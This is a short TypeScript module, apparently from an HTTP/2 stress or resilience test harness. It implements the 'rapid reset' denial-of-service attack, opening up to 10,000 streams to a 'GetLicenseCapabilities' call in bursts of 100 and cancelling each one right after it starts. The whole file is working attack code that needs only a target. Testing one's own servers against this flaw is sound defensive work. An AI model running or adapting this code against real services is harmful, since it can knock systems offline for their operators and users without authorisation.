import { once } from "node:events";
import { constants } from "node:http2";
import { setImmediate as breath } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { beginCall, framed, onSessions } from "../http2-calls.ts";

const CALLS = 10_000;
/** Begun and cancelled before this side writes anything. */
const BURST = 100;

/** 10,000 calls, each cancelled as soon as it is begun (rapid reset); then the attack waits for its end. */
export const rapidReset: Attack = async (target, tally) => {
  let left = CALLS;
  await onSessions(target, tally, async (session) => {
    if (left <= 0) return wait(target.signal);
    for (let index = 0; index < BURST && left > 0 && !session.closed && !session.destroyed; index += 1) {
      const stream = beginCall(session, "GetLicenseCapabilities", target.token);
      stream.end(framed(Buffer.alloc(0)));
      stream.close(constants.NGHTTP2_CANCEL);
      left -= 1;
      tally("sent");
    }
    await breath();
  });
};

async function wait(signal: AbortSignal): Promise<void> {
  if (!signal.aborted) await once(signal, "abort");
}
